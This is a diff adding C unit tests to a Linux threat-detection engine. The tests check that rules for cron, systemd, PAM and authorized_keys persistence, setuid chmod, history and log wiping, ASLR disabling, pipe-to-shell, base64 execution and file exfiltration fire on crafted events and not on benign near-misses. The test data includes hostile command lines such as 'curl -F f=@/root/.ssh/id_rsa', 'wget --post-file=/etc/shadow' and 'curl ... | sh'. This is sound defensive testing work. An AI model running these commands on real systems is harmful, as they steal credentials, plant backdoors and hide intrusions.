@@ -545,3 +545,159 @@ Test(detect, an_older_alert_table_gets_the_new_columns)
 	cr_assert_eq(vg_detect_run(det), 1);
 	cr_expect_eq(alert_col("exec_from_tmp", "EvidenceCount"), 1);
 }
+
+/* A file event on d1 by the program by, with AdditionalFields fields. */
+static void filef(const char *action, const char *folder, const char *by, const char *fields)
+{
+	sql("INSERT INTO DeviceFileEvents (Timestamp, DeviceId, ActionType, ReportId, FileName,"
+	    " FolderPath, InitiatingProcessFileName, AdditionalFields) VALUES"
+	    " (" NOW ", 'd1', %Q, %d, %Q, %Q, %Q, %Q)",
+	    action, ++report_id, strrchr(folder, '/') + 1, folder, by, fields);
+}
+
+/* Each file rule: what fires, and the package manager or tool that does it for a living. */
+Test(detect, persistence_and_evasion_file_rules)
+{
+	static const struct {
+		const char *rule, *action, *path, *by, *fields;
+	} miss[] = {
+		{ "persist_cron", "FileCreated", "/etc/cron.d/certbot", "dpkg", "{}" },
+		{ "persist_cron", "FileModified", "/var/spool/cron/crontabs/u", "crontab", "{}" },
+		{ "persist_cron", "FileCreated", "/etc/cron.dx", "sh", "{}" },
+		{ "persist_systemd", "FileCreated", "/lib/systemd/system/ssh.service", "dpkg",
+		  "{}" },
+		{ "persist_systemd", "FileCreated", "/etc/systemd/system/x.wants", "sh", "{}" },
+		{ "persist_shell_profile", "FileModified", "/home/u/.bashrc.swp", "vim", "{}" },
+		{ "persist_authorized_keys", "FileModified", "/home/u/.ssh/known_hosts", "ssh",
+		  "{}" },
+		{ "persist_ld_preload", "FileModified", "/etc/ld.so.conf", "sh", "{}" },
+		{ "persist_pam", "FileModified", "/etc/pam.d/common-auth", "pam-auth-update",
+		  "{}" },
+		{ "persist_passwd_write", "FileRenamed", "/etc/passwd", "useradd", "{}" },
+		{ "persist_passwd_write", "FileModified", "/etc/passwd-", "sh", "{}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/x", "chmod",
+		  "{\"Mode\":\"0755\"}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/usr/bin/su", "dpkg",
+		  "{\"Mode\":\"4755\"}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/var/lib/shared", "chmod",
+		  "{\"Mode\":\"2750\"}" },
+		{ "evasion_history", "FileModified", "/home/u/.bash_history", "bash",
+		  "{\"OpenFlags\":1089}" }, /* O_WRONLY|O_CREAT|O_APPEND: bash saving it */
+		{ "evasion_history", "FileCreated", "/home/u/.bash_history", "bash", "{}" },
+		{ "evasion_log_tamper", "FileDeleted", "/var/log/syslog", "logrotate", "{}" },
+		{ "evasion_log_tamper", "FileModified", "/var/log/auth.log", "rsyslogd",
+		  "{\"OpenFlags\":1089}" },
+		{ "evasion_log_tamper", "FileDeleted", "/var/log/syslog.2.gz", "sh", "{}" },
+		{ "evasion_aslr", "FileModified", "/proc/sys/kernel/randomize_va_space2", "sh",
+		  "{}" },
+	};
+	static const struct {
+		const char *rule, *action, *path, *by, *fields;
+	} hit[] = {
+		{ "persist_cron", "FileCreated", "/etc/cron.d/update", "bash", "{}" },
+		{ "persist_cron", "FileRenamed", "/var/spool/cron/crontabs/root", "python3", "{}" },
+		{ "persist_systemd", "FileCreated", "/etc/systemd/system/backdoor.service", "sh",
+		  "{}" },
+		{ "persist_systemd", "FileCreated", "/home/u/.config/systemd/user/x.timer", "cp",
+		  "{}" },
+		{ "persist_shell_profile", "FileModified", "/home/u/.bashrc", "sh", "{}" },
+		{ "persist_shell_profile", "FileCreated", "/etc/profile.d/x.sh", "tee", "{}" },
+		{ "persist_authorized_keys", "FileModified", "/root/.ssh/authorized_keys", "sh",
+		  "{}" },
+		{ "persist_ld_preload", "FileCreated", "/etc/ld.so.preload", "dpkg", "{}" },
+		{ "persist_pam", "FileModified", "/etc/pam.d/sshd", "sed", "{}" },
+		{ "persist_pam", "FileCreated", "/lib/x86_64-linux-gnu/security/pam_x.so", "cp",
+		  "{}" },
+		{ "persist_passwd_write", "FileModified", "/etc/passwd", "sh", "{}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/rootsh", "chmod",
+		  "{\"Mode\":\"4755\"}" },
+		{ "privesc_setid_chmod", "FileModeChanged", "/tmp/suidgid", "python3",
+		  "{\"Mode\":\"6711\"}" },
+		{ "evasion_history", "FileDeleted", "/root/.bash_history", "rm", "{}" },
+		{ "evasion_history", "FileModified", "/home/u/.zsh_history", "sh",
+		  "{\"OpenFlags\":577}" }, /* O_WRONLY|O_CREAT|O_TRUNC */
+		{ "evasion_log_tamper", "FileDeleted", "/var/log/wtmp", "rm", "{}" },
+		{ "evasion_log_tamper", "FileModified", "/var/log/auth.log", "sh",
+		  "{\"OpenFlags\":577}" },
+		{ "evasion_aslr", "FileModified", "/proc/sys/kernel/randomize_va_space", "sh",
+		  "{}" },
+	};
+
+	for (size_t i = 0; i < sizeof(miss) / sizeof(miss[0]); i++)
+		filef(miss[i].action, miss[i].path, miss[i].by, miss[i].fields);
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0, "%s",
+		     sqlite3_mprintf("%lld", qint("SELECT count(*) FROM AlertInfo")));
+	for (size_t i = 0; i < sizeof(hit) / sizeof(hit[0]); i++) {
+		long long before = alerts(hit[i].rule);
+
+		filef(hit[i].action, hit[i].path, hit[i].by, hit[i].fields);
+		cr_assert_geq(vg_detect_run(det), 0);
+		cr_expect_eq(alerts(hit[i].rule), before + 1, "%s: %s by %s", hit[i].rule,
+			     hit[i].path, hit[i].by);
+	}
+	cr_expect_eq(total_alerts(), (long long)(sizeof(hit) / sizeof(hit[0])));
+}
+
+/* Each command-line rule: what fires, and what looks close and must not. */
+Test(detect, command_line_rules)
+{
+	static const struct {
+		const char *rule, *path, *cmd;
+	} miss[] = {
+		{ "persist_uid0_account", "/usr/sbin/useradd", "useradd -u 1001 bob" },
+		{ "persist_uid0_account", "/usr/sbin/usermod", "usermod -u 10 -G wheel bob" },
+		{ "evasion_history_cmdline", "/bin/bash", "bash -c 'history | tail'" },
+		{ "evasion_aslr_cmdline", "/usr/sbin/sysctl", "sysctl kernel.randomize_va_space" },
+		{ "evasion_aslr_cmdline", "/usr/bin/setarch", "setarch x86_64 --uname-2.6 ./a" },
+		{ "evasion_masquerade", "/usr/sbin/sshd", "sshd -D" },
+		{ "evasion_masquerade", "/home/u/build/sshd-test", "./sshd-test" },
+		{ "evasion_masquerade", "/usr/bin/python3", "python3 kworker.py [kworker/0:1]" },
+		{ "exec_pipe_to_shell", "/bin/sh",
+		  "sh -c 'curl -o x.tgz https://x/y && tar xf x.tgz'" },
+		{ "exec_pipe_to_shell", "/bin/bash", "bash -c 'curl -s https://x | jq .'" },
+		{ "exec_base64_script", "/bin/sh", "sh -c 'base64 -d key.b64 > key'" },
+		{ "exec_base64_script", "/bin/sh", "sh -c 'echo aGk= | base64 -d | shasum'" },
+		{ "exfil_cmdline", "/usr/bin/curl", "curl -o out.tar https://x/y" },
+		{ "exfil_cmdline", "/usr/bin/curl",
+		  "curl --data-binary @enroll.json https://127.0.0.1:4443/v1/enroll" },
+		{ "exfil_cmdline", "/usr/bin/curl", "curl -F name=value https://x/form" },
+	};
+	static const struct {
+		const char *rule, *path, *cmd;
+	} hit[] = {
+		{ "persist_uid0_account", "/usr/sbin/useradd", "useradd -o -u 0 -g 0 toor" },
+		{ "persist_uid0_account", "/usr/sbin/usermod", "usermod --uid=0 -o bob" },
+		{ "evasion_history_cmdline", "/bin/bash", "bash -c 'history -c'" },
+		{ "evasion_history_cmdline", "/bin/sh", "sh -c 'unset HISTFILE; id'" },
+		{ "evasion_aslr_cmdline", "/usr/sbin/sysctl",
+		  "sysctl -w kernel.randomize_va_space=0" },
+		{ "evasion_aslr_cmdline", "/usr/bin/setarch", "setarch x86_64 -R ./vuln" },
+		{ "evasion_masquerade", "/tmp/.x/sshd", "sshd -D" },
+		{ "evasion_masquerade", "/home/u/miner", "[kworker/0:1]" },
+		{ "exec_pipe_to_shell", "/bin/sh", "sh -c 'curl -fsSL https://x/i.sh | sh'" },
+		{ "exec_pipe_to_shell", "/bin/bash", "bash -c 'wget -qO- http://x/a | sudo bash'" },
+		{ "exec_pipe_to_shell", "/bin/bash", "bash -c \"$(curl -fsSL https://x/i.sh)\"" },
+		{ "exec_base64_script", "/bin/sh", "sh -c 'echo aWQK | base64 -d | sh'" },
+		{ "exec_base64_script", "/usr/bin/python3",
+		  "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'" },
+		{ "exfil_cmdline", "/usr/bin/curl", "curl -T /etc/passwd https://x/up" },
+		{ "exfil_cmdline", "/usr/bin/curl", "curl -F f=@/root/.ssh/id_rsa https://x/u" },
+		{ "exfil_cmdline", "/usr/bin/wget", "wget --post-file=/etc/shadow http://x/" },
+	};
+
+	for (size_t i = 0; i < sizeof(miss) / sizeof(miss[0]); i++)
+		proc("d1", "ProcessCreated", miss[i].path, miss[i].cmd, "bash");
+	cr_assert_eq(vg_detect_run(det), 0);
+	cr_expect_eq(total_alerts(), 0);
+	for (size_t i = 0; i < sizeof(hit) / sizeof(hit[0]); i++) {
+		long long before = alerts(hit[i].rule);
+
+		proc("d1", "ProcessCreated", hit[i].path, hit[i].cmd, "bash");
+		cr_assert_geq(vg_detect_run(det), 0);
+		cr_expect_eq(alerts(hit[i].rule), before + 1, "%s: %s", hit[i].rule, hit[i].cmd);
+	}
+	/* /tmp/.x/sshd also ran from /tmp; curl -F ...id_rsa also names a key */
+	cr_expect_eq(total_alerts(), (long long)(sizeof(hit) / sizeof(hit[0])) + 2);
+	cr_expect_eq(alerts("exec_from_tmp") + alerts("credential_files_cmdline"), 2);
+}
